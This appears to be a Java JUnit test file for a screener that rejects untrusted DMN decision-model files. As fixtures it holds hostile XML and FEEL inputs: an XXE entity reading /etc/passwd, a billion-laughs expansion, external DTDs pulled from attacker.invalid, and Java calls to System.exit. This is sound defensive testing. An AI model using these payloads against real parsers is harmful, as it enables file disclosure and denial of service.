package org.frontdoor.rules;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

import org.frontdoor.rules.internal.FeelScreen;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class UntrustedModelsTest {
    private static final String DMN15 = "https://www.omg.org/spec/DMN/20230324/MODEL/";
    private final UntrustedModels screen = new UntrustedModels(2L * 1024 * 1024);

    private static ModelFile file(String xml) {
        return new ModelFile("draft.dmn", xml.getBytes(UTF_8));
    }

    private List<String> problems(String xml) {
        RejectedModel e = catchThrowableOfType(() -> screen.screen(file(xml)), RejectedModel.class);
        assertThat(e).as("should be refused").isNotNull();
        assertThat(e.fileName()).isEqualTo("draft.dmn");
        return e.problems();
    }

    private static String model(String ns, String body) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<definitions xmlns=\"" + ns + "\" id=\"d\" name=\"m\" namespace=\"https://example.org/m\">"
                + body + "</definitions>";
    }

    @Test
    void theShippedModelsPass() throws IOException {
        try (Stream<Path> files = Files.list(Path.of("rules"))) {
            List<Path> dmn = files.filter(p -> p.toString().endsWith(".dmn")).toList();
            assertThat(dmn).isNotEmpty();
            for (Path p : dmn) {
                UntrustedModels.Outline outline = screen.inspect(new ModelFile(p.getFileName().toString(), Files.readAllBytes(p)));
                assertThat(outline.dmnVersion()).isEqualTo("1.5");
                assertThat(outline.imports()).isEmpty();
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"http://www.omg.org/spec/DMN/20151101/dmn.xsd", "http://www.omg.org/spec/DMN/20180521/MODEL/",
            "https://www.omg.org/spec/DMN/20191111/MODEL/", "https://www.omg.org/spec/DMN/20211108/MODEL/", DMN15,
            "https://www.omg.org/spec/DMN/20240513/MODEL/"})
    void everyDmnVersionFrom11To16IsAccepted(String ns) {
        UntrustedModels.Outline o = screen.inspect(file(model(ns, "<decision id=\"a\" name=\"A\"><literalExpression><text>1</text></literalExpression></decision>")));
        assertThat(o.name()).isEqualTo("m");
        assertThat(o.namespace()).isEqualTo("https://example.org/m");
        assertThat(o.dmnVersion()).isEqualTo(UntrustedModels.DMN_NAMESPACES.get(ns));
    }

    @Test
    void classicXxeIsRefusedWithoutReadingTheFile() {
        assertThat(problems("""
                <?xml version="1.0"?>
                <!DOCTYPE definitions [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>
                <definitions xmlns="https://www.omg.org/spec/DMN/20230324/MODEL/" name="m" namespace="n">
                  <decision name="A"><literalExpression><text>"&x;"</text></literalExpression></decision>
                </definitions>""")).containsExactly("DTDs and entity declarations are not allowed");
    }

    @Test
    void billionLaughsIsRefusedBeforeAnyExpansion() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10)).append("\">");
        }
        dtd.append("]>");
        long start = System.nanoTime();
        assertThat(problems("<?xml version=\"1.0\"?>" + dtd + model(DMN15, "<decision name=\"A\"><literalExpression><text>&lol9;</text></literalExpression></decision>")
                .replaceFirst("<\\?xml[^>]*>", ""))).containsExactly("DTDs and entity declarations are not allowed");
        assertThat(System.nanoTime() - start).isLessThan(2_000_000_000L);
    }

    @Test
    void anExternalDtdIsRefusedAndNeverFetched() {
        assertThat(problems("""
                <?xml version="1.0"?>
                <!DOCTYPE definitions SYSTEM "http://attacker.invalid/evil.dtd">
                <definitions xmlns="https://www.omg.org/spec/DMN/20230324/MODEL/" name="m" namespace="n"/>""")).containsExactly("DTDs and entity declarations are not allowed");
        assertThat(problems("""
                <?xml version="1.0"?>
                <!DOCTYPE definitions [ <!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p; ]>
                <definitions xmlns="https://www.omg.org/spec/DMN/20230324/MODEL/" name="m" namespace="n"/>""")).containsExactly("DTDs and entity declarations are not allowed");
    }

    @Test
    void aJavaFunctionDefinitionIsRefusedByName() {
        String java = model(DMN15, """
                <businessKnowledgeModel id="bkm_exit" name="Shut down">
                  <encapsulatedLogic kind="Java">
                    <formalParameter name="code" typeRef="number"/>
                    <context>
                      <contextEntry><variable name="class"/><literalExpression><text>"java.lang.System"</text></literalExpression></contextEntry>
                      <contextEntry><variable name="method signature"/><literalExpression><text>"exit(int)"</text></literalExpression></contextEntry>
                    </context>
                  </encapsulatedLogic>
                </businessKnowledgeModel>
                <decision name="A"><literalExpression><text>Shut down(1)</text></literalExpression></decision>""");
        assertThat(problems(java)).containsExactly(
                "the function definition in 'Shut down' (line 3) is of kind Java, which would call Java classes; only FEEL functions are allowed");
        assertThat(problems(java.replace("<encapsulatedLogic kind=\"Java\">", "<encapsulatedLogic kind=\"J\">"))).hasSize(1);
        assertThat(problems(model(DMN15, """
                <decision name="A"><context><contextEntry><variable name="f"/>
                  <functionDefinition id="fd1" kind="PMML"><formalParameter name="x"/><context/></functionDefinition>
                </contextEntry></context></decision>""")))
                .containsExactly("the function definition in 'f' (line 3) is of kind PMML, which would call an external PMML model; only FEEL functions are allowed");
    }

    @Test
    void aFeelExternalFunctionIsRefusedButTheWordInStringsAndNamesIsNot() {
        assertThat(problems(model(DMN15, """
                <decision name="A"><literalExpression><text>{ f: function(code) external { java: { class: "java.lang.System",
                  method signature: "exit(int)" } }, r: f(1) }.r</text></literalExpression></decision>""")))
                .singleElement().asString().contains("external function");
        assertThat(FeelScreen.problems("function(x) /* hidden */ external {java: {}}")).singleElement().asString().startsWith("defines an external function");
        assertThat(FeelScreen.problems("\"function(x) external\" + external referrer")).isEmpty();
        assertThat(FeelScreen.problems("if (a) then external referrer else 1")).isEmpty();
    }

    @Test
    void aHugeLiteralIterationRangeIsRefused() {
        assertThat(problems(model(DMN15, """
                <decision name="Loop"><literalExpression><text>for i in 1..100000000 return i</text></literalExpression></decision>""")))
                .containsExactly("the expression in 'Loop' (line 2) iterates over the range 1..100000000 (100,000,000 values); at most 1,000,000 values are allowed");
        assertThat(huge("sum(for i in 1..1000000 return i)")).isNull();
        assertThat(huge("count(for i in 1..1000, j in 1..1000, k in 1..1000 return 0)"))
                .contains("the ranges 1..1000, 1..1000, 1..1000 together (1,000,000,000 values)");
        assertThat(huge("count(for i in 1..1000 return for j in 1..1001 return 0)")).contains("1,001,000 values");
        assertThat(huge("count(for i in 1..1000, j in 1..1000 return 0)")).isNull();
        assertThat(huge("for a in [1,2], b in 10000000..-5 return a")).contains("10000000..-5");
        // a range test in a decision table or a string is not an iteration
        assertThat(huge("x in [0..100000000]")).isNull();
        assertThat(huge("\"for i in 1..100000000\"")).isNull();
    }

    private static String huge(String feel) {
        List<String> p = FeelScreen.problems(feel);
        return p.isEmpty() ? null : p.get(0);
    }

    @ParameterizedTest
    @ValueSource(strings = {"not xml at all", "{\"model\": 1}", "<definitions xmlns=\"https://www.omg.org/spec/DMN/20230324/MODEL/\"><decision>",
            "<?xml version=\"1.0\"?><definitions xmlns=\"https://www.omg.org/spec/DMN/20230324/MODEL/\"><a></b></definitions>"})
    void nonXmlIsRefused(String text) {
        assertThat(problems(text)).singleElement().asString().startsWith("the file is not well-formed XML");
    }

    @Test
    void anOversizeFileIsRefusedBeforeParsing() {
        String big = model(DMN15, "<!--" + "x".repeat(2 * 1024 * 1024) + "-->");
        assertThat(problems(big)).containsExactly("the file is 2.0 MB; the limit is 2.0 MB");
        assertThat(new UntrustedModels(100).maxBytes()).isEqualTo(100);
        assertThat(catchThrowableOfType(() -> new UntrustedModels(100).screen(file(model(DMN15, ""))), RejectedModel.class).problems())
                .singleElement().asString().endsWith("the limit is 100 bytes");
        assertThat(problems("")).containsExactly("the file is empty");
    }

    @Test
    void aRootThatIsNotDmnDefinitionsIsRefused() {
        assertThat(problems(model("http://www.omg.org/spec/DMN/20100101/dmn.xsd", "")))
                .singleElement().asString().startsWith("the root element is 'definitions' in namespace http://www.omg.org/spec/DMN/20100101/dmn.xsd, not a DMN definitions element");
        assertThat(problems("<project xmlns=\"http://maven.apache.org/POM/4.0.0\"/>")).singleElement().asString().contains("'project'");
        assertThat(problems("<definitions name=\"m\"/>")).singleElement().asString().contains("(no namespace)");
    }

    @Test
    void importsAreReported() {
        UntrustedModels.Outline o = screen.inspect(file(model(DMN15,
                "<import namespace=\"https://example.org/other\" name=\"other\" importType=\"https://www.omg.org/spec/DMN/20230324/MODEL/\"/>")));
        assertThat(o.imports()).containsExactly("https://example.org/other");
        assertThatCode(() -> screen.screen(file(model(DMN15, "")))).doesNotThrowAnyException();
    }
}
